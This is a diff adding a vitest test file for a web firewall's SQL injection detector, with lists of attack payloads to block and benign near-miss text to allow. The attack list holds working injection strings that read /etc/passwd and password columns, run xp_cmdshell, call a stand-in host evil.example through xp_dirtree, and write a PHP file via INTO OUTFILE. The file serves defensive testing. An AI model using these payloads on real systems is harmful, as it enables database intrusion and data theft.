@@ -1,0 +1,120 @@
+/**
+ * SQL injection detector (src/lib/waf/sqli.ts) through the whole filter: hand-written attacks in
+ * every dialect and shape (breakouts, numeric contexts, UNION, stacked, time/error/file
+ * functions, PostgreSQL JSON operators and casts, comment obfuscation) and benign near-misses
+ * (prose with SQL words and apostrophes, code snippets) that must pass.
+ */
+// zod-openapi must extend zod before the config schema is built (as src/app.ts does first).
+import "@hono/zod-openapi";
+import { describe, expect, it } from "vitest";
+import { edgeConfigSchema } from "../../src/lib/config/schema.ts";
+import { evaluateRequest, type WafRequest } from "../../src/lib/waf/index.ts";
+
+const DEFAULT = edgeConfigSchema.parse({ security: {} }).security;
+const BROWSER = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15";
+
+function req(url: string, body: string | null = null, contentType?: string): WafRequest {
+  const headers = new Headers({ "user-agent": BROWSER });
+  if (contentType !== undefined) headers.set("content-type", contentType);
+  return { method: body === null ? "GET" : "POST", url, headers, visitor: { ip: "203.0.113.7", country: "DE", asn: 3320 }, body };
+}
+const query = (v: string) => evaluateRequest(req(`https://edge.test/v1/search?q=${encodeURIComponent(v)}`), DEFAULT);
+const form = (v: string) => evaluateRequest(req("https://edge.test/v1/items", `name=test&data=${encodeURIComponent(v)}`, "application/x-www-form-urlencoded"), DEFAULT);
+const json = (v: string) => evaluateRequest(req("https://edge.test/v1/items", JSON.stringify({ text: v }), "application/json"), DEFAULT);
+
+const ATTACKS = [
+  // breakouts with parentheses and double quotes, UNION with comment truncation
+  `1")) as x where 1071=1071 union all select null,null,null#`,
+  `1')) union all select null,concat(0x71,user(),0x71),null-- -`,
+  `x' UNION/**/SELECT/**/username,password/**/FROM/**/users--`,
+  `-7 /*!50000union*/ /*!50000select*/ 1,2,version()--+`,
+  `1 uNiOn aLL sElEcT @@version,2#`,
+  // auth bypass
+  `admin'--`,
+  `admin')#`,
+  `' or ''='`,
+  `" or ""="`,
+  `x' OR 'a'='a`,
+  // boolean / numeric contexts
+  `42 AND 5283=5283`,
+  `1 AND ORD(MID((SELECT IFNULL(CAST(password AS CHAR),0x20) FROM users LIMIT 0,1),1,1))>64`,
+  `1' AND (SELECT 3345 FROM (SELECT(SLEEP(5)))abc)-- xyz`,
+  `or 1=1--`,
+  // time-based in every dialect
+  `1'; WAITFOR DELAY '0:0:5'--`,
+  `foo')waitfor delay'0:0:20'--`,
+  `1'));begin dbms_lock.sleep(5); end and (('a'='a`,
+  `1 AND 7141=(SELECT 7141 FROM PG_SLEEP(5))`,
+  `1' AND 1=(SELECT COUNT(*) FROM sqlite_master WHERE randomblob(500000000))--`,
+  `2010-01-01'+sleep(20)+'`,
+  // stacked queries and procedures
+  `1; DROP TABLE users`,
+  `x'; exec master..xp_cmdshell 'ping 10.0.0.1'--`,
+  `'; DECLARE @q VARCHAR(99); SET @q='\\\\evil.example\\x'; EXEC master.dbo.xp_dirtree @q;--`,
+  `1;INSERT /*x*/INTO accounts(id) VALUES (3)-- -`,
+  // error-based / out-of-band / files
+  `1 AND EXTRACTVALUE(4526,CONCAT(0x5c,0x7171,(SELECT user()),0x7171))`,
+  `1' AND 1=utl_inaddr.get_host_address((SELECT banner FROM v$version WHERE rownum=1))--`,
+  `' UNION SELECT load_file('/etc/passwd'),2--`,
+  `1 INTO OUTFILE '/var/www/html/s.php'`,
+  // PostgreSQL JSON operators and casts
+  `OR '{"a":1}' ?| array['a']`,
+  `OR '{"b":2}'::jsonb <@ '{"a":1,"b":2}'::jsonb`,
+  `OR '{"a":{"b":"c"}}'::json #>> '{a,b}' = 'c'`,
+  `1' and unistr(password)::bool--`,
+  // builders, probes, obfuscation
+  `1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
+  `' group by password having 1=1--`,
+  `(SELECT CHAR(113)+CHAR(118)+CHAR(112))`,
+  `1.e(ascii 1.e(substring(1.e(select password from users limit 1),1,1)))`,
+  `9999 or /*+ hint */ true`,
+  `email@example.com';`,
+];
+
+const BENIGN = [
+  "the 'or' branch is wrong",
+  "select a union rep",
+  "drop me a line",
+  "order by price",
+  "Please select the union option in the drop-down and then click Save.",
+  "I'd like to drop the reservation; please update it.",
+  "it's 1 or 2 people",
+  "O'Brien & D'Angelo; O'Neil",
+  "C'est l'heure d'aller à l'école ; n'est-ce pas ?",
+  "The word 'select' appears in the title, and so does 'union'",
+  "Is 'having' a gerund here? 'Having finished, she left.'",
+  "The 'drop table' in the conference room needs fixing",
+  "Results: 7 * 7 = 49 and 12 / 4 = 3; the kids loved the quiz.",
+  "case when you need it then call me",
+  "I declare @bob the winner",
+  "sleep(1) python",
+  "?q=sleep(1) python",
+  "map 'cat' -> 'dog'",
+  "std::string name; Foo::Bar::baz()",
+  "/*! jQuery v3.7.1 | (c) OpenJS Foundation */",
+  "SELECT * FROM users WHERE id = 42 ORDER BY created_at DESC LIMIT 20;",
+  "SELECT CONCAT(first_name, ' ', last_name) FROM people",
+  "SELECT IIF(a > b, 'x', 'y') FROM t",
+  "ALTER TABLE users ADD COLUMN age int;",
+  "cursor.execute('SELECT id FROM users WHERE email = %s', (email,))",
+  "credit union select savings",
+  "5'10\" tall",
+];
+
+describe("sqli detector", () => {
+  it.each(ATTACKS)("blocks %s", (payload) => {
+    expect(query(payload).action, `query: ${payload}`).toBe("block");
+    expect(form(payload).action, `form: ${payload}`).toBe("block");
+  });
+
+  it.each(BENIGN)("lets %s through", (text) => {
+    expect(query(text).action, `query: ${text}`).toBe("allow");
+    expect(json(text).action, `json: ${text}`).toBe("allow");
+  });
+
+  it("names the finding with a stable sqli rule id", () => {
+    const d = query(`1")) as x where 1071=1071 union all select null,null,null#`);
+    expect(d).toMatchObject({ action: "block", class: "sqli", ruleId: "sqli-union-select" });
+    expect(query(`OR '{"a":1}' ?| array['a']`).class).toBe("sqli");
+  });
+});
